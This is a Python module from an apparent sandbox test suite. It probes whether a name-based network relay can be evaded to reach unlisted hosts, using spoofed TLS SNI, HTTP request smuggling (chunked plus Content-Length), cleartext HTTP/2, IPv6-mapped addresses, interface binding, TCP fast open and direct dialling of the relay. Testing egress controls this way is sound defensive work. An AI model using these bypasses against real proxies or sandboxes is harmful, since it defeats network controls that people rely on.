"""A listed name's address used for another name: what comes in goes by the name that it gives, or goes nowhere.

Two listed names share an address, so that the relay reads whom each connection is for. Every attempt carries a word of
its own to where it should not get; in ``networld`` it is seen if a packet has it. The control says it without a relay.
"""

from __future__ import annotations

import os
import socket
import struct

from stockade.sandbox.attacks.toolbox import AllRefused, Given, add, attempt, bound

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

GROUP = "D network, DNS, packet rules"
RELAY, RULES = "relay that reads the name", "packet rules"
BOX = "names"
SHARED, ELSEWHERE = "203.0.113.90", "203.0.113.91"
ONE, TWO, FAR = "one.example", "two.example", "far.example"
"""Listed: two names of SHARED, and one of ELSEWHERE."""
WORDS = "off.example"
"""Every word ends in it."""
SO_BINDTODEVICE, TCP_FASTOPEN_CONNECT = 25, 30
WAIT = 4.0
SHORT = 1.0
"""For what nobody answers."""


def hello(name: str | None, word: str = "") -> bytes:
    """A ClientHello for ``name``, with ``word`` among the protocols that it offers."""
    named = sized(b"\0" + sized(name.encode(), 2), 2) if name else b""
    extensions = struct.pack("!HH", 0, len(named)) + named if name else b""
    offered = sized(sized((word or "http/1.1").encode(), 1), 2)
    extensions += struct.pack("!HH", 16, len(offered)) + offered
    body = b"\3\3" + bytes(32) + b"\0" + sized(b"\x13\1\xc0\x2f", 2) + b"\1\0" + sized(extensions, 2)
    message = b"\1" + sized(body, 3)
    return b"\x16\3\1" + sized(message, 2)


def sized(data: bytes, width: int) -> bytes:
    return len(data).to_bytes(width, "big") + data


def request(host: str, *fields: str, first: str = "GET / HTTP/1.1") -> bytes:
    return "\r\n".join((first, f"Host: {host}", *fields, "", "")).encode()


def known() -> None:
    """What is listed gets through; else nothing would be shown by what does not."""
    for name, address in ((ONE, SHARED), (TWO, SHARED), (FAR, ELSEWHERE)):
        if socket.gethostbyname(name) != address:
            raise RuntimeError(f"{name} is not resolved")
    if talk([hello(ONE)])[:1] != b"\x16" or b" 200 " not in talk([request(TWO)], port=80):
        raise RuntimeError("what is listed is not reached")


def talk(
    pieces: Sequence[bytes],
    *,
    address: str = SHARED,
    port: int = 443,
    prepare: Callable[[socket.socket], None] = lambda made: None,
) -> bytes:
    """Each piece once the one before was answered; what came last. For HTTP all that came."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as made:
        made.settimeout(WAIT)
        prepare(made)
        made.connect((address, port))
        heard = b""
        for piece in pieces:
            made.sendall(piece)
            heard = made.recv(65536)
        if port == 80:
            made.shutdown(socket.SHUT_WR)
            heard += b"".join(iter(lambda: made.recv(65536), b""))
    return heard


def answered(answer: bytes) -> bool:
    """Whether a server said it. Raises AllRefused where it is a refusal in words."""
    refused = AllRefused()
    if answer[:1] == b"\x15":
        refused.names = f"TLS alert {answer[-1]}"
        raise refused
    if b" 403 " in answer:
        refused.names = "403 Forbidden"
        raise refused
    return bool(answer)


def bound_to_link(made: socket.socket) -> None:
    links = [name for _number, name in socket.if_nameindex()]
    made.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"tap0" if "tap0" in links else b"lo")
    made.settimeout(SHORT)


def fast_open(made: socket.socket) -> None:
    made.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return sized(body, 3) + struct.pack("!BBI", kind, flags, stream) + body


def preface(host: str) -> bytes:
    """HTTP/2: settings, and a GET for ``host``."""
    head = b"\x82\x84\x86\x41" + sized(host.encode(), 1)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, head)


def chunked_and_sized(word: str) -> bytes:
    """Whoever goes by the length sees one request, whoever goes by the chunks two."""
    body = b"0\r\n\r\n" + request(word)
    fields = "Transfer-Encoding: chunked", f"Content-Length: {len(body)}"
    return request(ONE, *fields, first="POST / HTTP/1.1") + body


def in_a_body(word: str) -> bytes:
    """A server that does not read bodies takes this one for the next request."""
    body = request(word)
    return request(ONE, f"Content-Length: {len(body)}") + body


TRIES = {
    "another-name-inside-tls": ("Ask for a name that is not listed, inside TLS", 443, lambda word: [hello(word)]),
    "no-name-inside-tls": ("Ask for no name, inside TLS", 443, lambda word: [hello(None, word)]),
    "listed-name-of-another-address": (
        "Ask for a name that is listed, and leads elsewhere", 443, lambda word: [hello(FAR, word)]),
    "second-hello": (
        "Name another server in a second ClientHello (TLS 1.3)", 443, lambda word: [hello(ONE), hello(word)]),
    "another-host": ("Ask for a host that is not listed, by HTTP", 80, lambda word: [request(word)]),
    "second-request": (
        "Ask for it in a second request on the same connection", 80, lambda word: [request(ONE) + request(word)]),
    "request-in-a-body": ("Hide the second request in the body of the first", 80, lambda word: [in_a_body(word)]),
    "chunked-and-sized": (
        "Hide it by both Transfer-Encoding and Content-Length", 80, lambda word: [chunked_and_sized(word)]),
    "http2-in-clear": ("Ask for it by HTTP/2 without TLS", 80, lambda word: [preface(word)]),
    "raw-protocol": ("Speak a protocol that names nobody", 443, lambda word: [f"SSH-2.0-1 {word}\r\n".encode()]),
}  # fmt: skip
WAYS = {
    "name-by-link": ("Bind to the link and ask for another name", RULES, SHARED, bound_to_link),
    "name-in-ipv6-dress": ("Ask for it by the address in IPv6 dress", RELAY, f"::ffff:{SHARED}", lambda made: None),
    "name-by-fast-open": ("Ask for it with the first packet (TCP fast open)", RELAY, SHARED, fast_open),
}


def fact(word: str) -> str:
    return f"said {word}.{WORDS}"


def say(given: Given, pieces: Callable[[str], Sequence[bytes]], word: str, port: int) -> bool:
    known()
    return answered(talk(pieces(f"{word}.{WORDS}"), port=port))


def say_by(given: Given, address: str, prepare: Callable[[socket.socket], None], word: str) -> bool:
    known()
    return answered(talk([hello(f"{word}.{WORDS}")], address=address, prepare=prepare))


for _word, (_title, _port, _pieces) in TRIES.items():
    add(__name__, GROUP, _word, _title, bound(say, _pieces, _word, _port), RELAY, box=BOX, facts=(fact(_word),))
for _word, (_title, _layer, _address, _prepare) in WAYS.items():
    _act = bound(say_by, _address, _prepare, _word)
    add(__name__, GROUP, _word, _title, _act, _layer, box=BOX, facts=(fact(_word),))


def straight(given: Given) -> bool:
    return answered(talk([hello(ONE, f"relay-dialled.{WORDS}")]))


@attempt(RELAY, box=BOX, control=straight, facts=(fact("relay-dialled"),))
def relay_dialled(given: Given) -> object:
    """Dial the relay itself, so that it has no destination"""
    known()
    with open(f"/proc/{os.getpid()}/net/tcp") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    ports = {int(row[1].partition(":")[2], 16) for row in rows if row[3] == "0A"} - {53}
    if not ports:
        raise RuntimeError("nobody listens")
    return [
        port
        for port in ports
        if answered(talk([hello(ONE, f"relay-dialled.{WORDS}")], address="127.0.0.1", port=port))
    ]
